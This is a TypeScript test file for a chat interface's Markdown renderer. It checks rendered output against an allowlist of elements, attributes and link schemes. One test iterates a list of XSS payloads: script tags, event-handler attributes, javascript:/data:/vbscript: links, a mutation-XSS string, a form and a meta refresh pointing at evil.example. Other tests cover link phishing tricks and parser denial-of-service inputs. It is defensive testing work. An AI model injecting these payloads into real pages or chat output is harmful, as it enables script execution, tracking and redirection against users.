import assert from "node:assert/strict";
import { test } from "node:test";
import { block, lex } from "../src/views/chat/markdown/markdown";
import { hostOf, safeLink } from "../src/views/chat/markdown/links";

/** What Markdown may become. Anything else in the tree is a hole. */
const ALLOWED = new Set(["p", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "hr", "table", "thead", "tbody", "tr", "th", "td", "div", "strong", "em", "del", "code", "pre", "br", "a", "figure", "figcaption", "span", "small", "input"]);
const PROPS = new Set(["class", "href", "target", "rel", "start", "type", "checked", "disabled", "aria-label", "scope", "tabIndex", "role", "children", "token", "text", "lang", "label", "title", "dir", "aria-haspopup"]);
/** What our own links have besides: they ask before they lead away. */
const ASKS = new Set(["onClick", "onAuxClick"]);

interface Node {
  type: string | ((props: any) => unknown) | null;
  props: Record<string, any>;
}
interface Seen {
  tags: string[];
  links: string[];
  text: string;
}

/** Walk what the page would be built of: elements by name, components by what they return. */
function walk(node: unknown, seen: Seen): Seen {
  if (node === null || node === undefined || typeof node === "boolean") return seen;
  if (typeof node === "string" || typeof node === "number") {
    seen.text += node;
    return seen;
  }
  if (Array.isArray(node)) {
    for (const one of node) walk(one, seen);
    return seen;
  }
  const { type, props } = node as Node;
  assert.ok(!("dangerouslySetInnerHTML" in props), "markup out of text");
  if (typeof type === "function" && /^(CopyButton|Icon)\d*$/.test(type.name)) return seen; // ours, and no part of the text
  for (const name of Object.keys(props)) assert.ok(PROPS.has(name) || (type === "a" && ASKS.has(name)), `an attribute that Markdown must not set: ${name}`);
  if (typeof type === "function") {
    // Components of ours: blocks and spans are followed.
    const prototype = type.prototype as { render?: () => unknown } | undefined;
    if (prototype?.render) return walk(block(props["token"]), seen);
    return walk(type(props), seen);
  }
  if (typeof type === "string") {
    assert.ok(ALLOWED.has(type), `an element that Markdown must not make: ${type}`);
    seen.tags.push(type);
    if (type === "a") {
      seen.links.push(props["href"]);
      assert.match(props["rel"], /noopener/);
    }
  }
  return walk(props["children"], seen);
}

const built = (text: string): Seen => walk(lex(text).map(block), { tags: [], links: [], text: "" });

test("the forms of Markdown become elements", () => {
  const seen = built("# Title\n\nA **bold** and *soft* `code` ~~gone~~.\n\n- one\n- two\n\n1. x\n\n> quote\n\n|a|b|\n|-|-:|\n|1|2|\n\n```py\nx = 1\n```\n\n---\n\n- [x] done");
  for (const tag of ["h2", "p", "strong", "em", "code", "del", "ul", "li", "ol", "blockquote", "table", "th", "td", "figure", "pre", "hr", "input"]) {
    assert.ok(seen.tags.includes(tag), tag);
  }
});

test("headings go down from the page, one by one, whatever a model began with", () => {
  assert.deepEqual(built("### a\n\n#### b\n\n##### c\n\n###### d").tags, ["h2", "h3", "h4", "h4"]);
  assert.deepEqual(built("# a\n\n## b").tags, ["h2", "h3"]);
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "text <iframe src=\"javascript:alert(1)\"></iframe> text",
  "<a href=\"javascript:alert(1)\">x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](/chat/steal)",
  "[x](//evil.example/x)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=x></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "`</code><script>alert(1)</script>`",
  "```\"><script>alert(1)</script>\nx\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
  "<details open ontoggle=alert(1)>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
];

test("hostile Markdown makes no element, attribute or address that could act", () => {
  for (const sample of HOSTILE) {
    const seen = built(sample);
    for (const link of seen.links) assert.match(link, /^(https?:|mailto:|tel:)/, sample);
    for (const tag of ["img", "script", "iframe", "svg", "style", "form", "object"]) assert.ok(!seen.tags.includes(tag), sample);
  }
});

test("HTML in an answer is read as text, so that nothing is hidden from the reader", () => {
  assert.match(built("see <b onclick=x>this</b>").text, /<b onclick=x>this<\/b>/);
});

test("an image of elsewhere is a link: nobody learns that it was read", () => {
  const seen = built("![chart](https://evil.example/track.png?id=1)");
  assert.deepEqual(seen.links, ["https://evil.example/track.png?id=1"]);
  assert.ok(!seen.tags.includes("img"));
  assert.match(seen.text, /chart.*evil\.example/);
});

test("a picture that is a link is one link", () => {
  const seen = built("[![chart](https://a.example/c.png)](https://b.example/page)");
  assert.deepEqual(seen.links, ["https://b.example/page"]);
  assert.equal(seen.text, "chart");
});

test("links keep to what people follow", () => {
  assert.equal(safeLink("https://example.org/a?b=c#d"), "https://example.org/a?b=c#d");
  assert.equal(safeLink("mailto:a@example.org"), "mailto:a@example.org");
  assert.equal(safeLink(" java\u0000script:alert(1)"), null);
  assert.equal(safeLink("https://bank.example@evil.example/"), null);
  assert.equal(safeLink("notes.md"), null);
  assert.equal(safeLink("blob:https://example.org/1"), null);
});

test("a link tells whom it leads to, whatever its words say", () => {
  assert.equal(hostOf("https://example.org:8443/a?b"), "example.org:8443");
  assert.equal(hostOf("https://xn--80ak6aa92e.com/"), "xn--80ak6aa92e.com");
  assert.equal(hostOf("mailto:anna@example.org"), "anna@example.org");
});

test("what no person writes is shown as it is instead of parsed for seconds", () => {
  const plain = (text: string): boolean => lex(text)[0]?.type === "plain";
  assert.equal(plain("word ".repeat(20_000)), false);
  assert.equal(plain("word ".repeat(20_001)), true);
  assert.equal(plain("a".repeat(2_000)), false);
  assert.equal(plain("a".repeat(2_001)), true);
  assert.equal(plain(`${"> ".repeat(22)}deep`), false);
  assert.equal(plain(`${"> ".repeat(23)}deep`), true);
  for (const text of [">".repeat(60_000), "a.".repeat(30_000) + "@", "*a".repeat(30_000), "- ".repeat(30_000), `a${" ".repeat(60_000)}b`]) {
    built(text);
  }
});
